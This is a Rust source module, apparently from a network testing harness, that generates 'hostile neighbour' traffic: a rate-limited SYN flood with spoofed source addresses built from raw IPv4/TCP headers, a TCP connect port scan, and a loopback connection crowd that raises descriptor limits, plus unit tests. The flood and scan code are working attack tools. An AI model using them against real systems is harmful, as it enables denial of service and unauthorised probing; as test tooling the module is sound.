//! Hostile neighbours: a SYN flood from addresses that nobody has, a port scan, and a crowd of connections.
//!
//! Each does what it is told and counts what it did; none waits for the others.

use super::inject::Raw;
use super::sockets::connected;
use anyhow::{Context, Result, bail};
use etherparse::{IpNumber, Ipv4Header, TcpHeader};
use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
use std::io::ErrorKind;
use std::net::{IpAddr, Ipv4Addr, SocketAddr, SocketAddrV4, TcpListener};
use std::time::{Duration, Instant};

/// SYNs in a row before a look at the clock.
const VOLLEY: u64 = 50;
/// Last byte of the made-up source addresses, first and how many.
const STRANGERS: (u8, u8) = (140, 100);
/// Connections to one address of a crowd; fewer than there are local ports.
const PER_ADDRESS: u32 = 20_000;
/// Descriptors that are not sockets of a crowd.
const OTHERS: u64 = 64;

/// Sends SYNs to a port from addresses of this network that nobody has, at a steady rate; answers how many.
pub fn syn_flood(network: Ipv4Addr, to: SocketAddr, rate: u64, time: Duration) -> Result<String> {
    let begin = Instant::now();
    let sent = flood(network, to, (rate, |tcp| tcp.syn = true), || begin.elapsed() < time)?;
    Ok(sent.to_string())
}

/// Sends segments of one kind, from another made-up end each, at a steady rate, as long as `goes_on` says; gives how
/// many.
pub fn flood(
    network: Ipv4Addr,
    to: SocketAddr,
    (rate, kind): (u64, fn(&mut TcpHeader)),
    mut goes_on: impl FnMut() -> bool,
) -> Result<u64> {
    let IpAddr::V4(target) = to.ip() else { bail!("only IPv4 is flooded") };
    let (raw, target) = (Raw::open(to)?, SocketAddrV4::new(target, to.port()));
    let begin = Instant::now();
    let mut sent = 0_u64;
    while goes_on() {
        for _ in 0..VOLLEY {
            let packet = segment(stranger(network, sent), target, (sent as u32, kind))?;
            raw.send(to, &packet)?;
            sent += 1;
        }
        let due = Duration::from_nanos(sent.saturating_mul(1_000_000_000) / rate.max(1));
        // A steady rate is what is asked for; nothing is waited for here.
        std::thread::sleep(due.saturating_sub(begin.elapsed()));
    }
    Ok(sent)
}

/// Address and port of a sender, another one each time.
fn stranger(network: Ipv4Addr, number: u64) -> SocketAddrV4 {
    let [a, b, c, _] = network.octets();
    let (first, many) = STRANGERS;
    let last = first + (number % u64::from(many)) as u8;
    SocketAddrV4::new(Ipv4Addr::new(a, b, c, last), 1024 + (number / u64::from(many) % 60_000) as u16)
}

fn segment(
    from: SocketAddrV4,
    to: SocketAddrV4,
    (sequence, kind): (u32, fn(&mut TcpHeader)),
) -> Result<Vec<u8>> {
    let mut tcp = TcpHeader::new(from.port(), to.port(), sequence, 65_535);
    kind(&mut tcp);
    let (source, target) = (from.ip().octets(), to.ip().octets());
    let mut ip = Ipv4Header::new(tcp.header_len_u16(), 64, IpNumber::TCP, source, target)?;
    tcp.checksum = tcp.calc_checksum_ipv4(&ip, &[])?;
    ip.header_checksum = ip.calc_header_checksum();
    let mut packet = Vec::new();
    ip.write(&mut packet)?;
    tcp.write(&mut packet)?;
    Ok(packet)
}

/// Connects to these ports one after the other, the first included, the last not; answers how many were refused.
pub fn scan(from: IpAddr, to: IpAddr, first: u16, last: u16) -> Result<String> {
    let mut refused = 0_u32;
    for port in first..last {
        match connected(from, SocketAddr::new(to, port)) {
            Ok(_open) => {}
            Err(error) if is_refusal(&error) => refused += 1,
            Err(error) => return Err(error),
        }
    }
    Ok(refused.to_string())
}

fn is_refusal(error: &anyhow::Error) -> bool {
    error.downcast_ref::<std::io::Error>().is_some_and(|error| error.kind() == ErrorKind::ConnectionRefused)
}

/// Opens this many connections between own sockets on loopback addresses, holds them all, and closes them at once;
/// answers how many there were: no more than the limit of descriptors allows.
pub fn crowd(port: u16, connections: u32) -> Result<String> {
    let allowed = descriptors(2 * u64::from(connections) + OTHERS)?.saturating_sub(OTHERS) / 2;
    let connections = u64::from(connections).min(allowed) as u32;
    let mut held = Vec::new();
    for number in 0..connections {
        if number % PER_ADDRESS == 0 {
            let address = Ipv4Addr::new(127, 0, 1, 1 + u8::try_from(number / PER_ADDRESS)?);
            held.push((TcpListener::bind((address, port))?, Vec::new()));
        }
        let (listener, pairs) = held.last_mut().context("no listener")?;
        let address = listener.local_addr()?;
        pairs.push((connected(address.ip(), address)?, listener.accept()?));
    }
    Ok(connections.to_string())
}

/// Raises the limit of open descriptors to this, or as far as it goes; gives what it is then.
fn descriptors(wanted: u64) -> Result<u64> {
    let enough = Rlimit { current: Some(wanted), maximum: Some(wanted) };
    let Rlimit { maximum, .. } = getrlimit(Resource::Nofile);
    if maximum.is_none_or(|maximum| maximum >= wanted) || setrlimit(Resource::Nofile, enough).is_err() {
        setrlimit(Resource::Nofile, Rlimit { current: maximum, maximum }).map_err(std::io::Error::from)?;
    }
    Ok(getrlimit(Resource::Nofile).current.unwrap_or(u64::MAX))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn strangers_differ_and_stay_in_their_network() {
        let network = Ipv4Addr::new(10, 77, 0, 0);
        let all: std::collections::HashSet<_> = (0..10_000).map(|number| stranger(network, number)).collect();
        assert_eq!(all.len(), 10_000);
        assert!(all.iter().all(|one| one.ip().octets()[3] >= 140 && one.ip().octets()[3] < 240));
    }

    #[test]
    fn a_crowd_comes_and_a_closed_port_is_counted() {
        assert_eq!(crowd(0, 50).unwrap(), "50");
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        drop(listener);
        let local = IpAddr::V4(Ipv4Addr::LOCALHOST);
        assert_eq!(scan(local, local, port, port + 1).unwrap(), "1");
    }
}
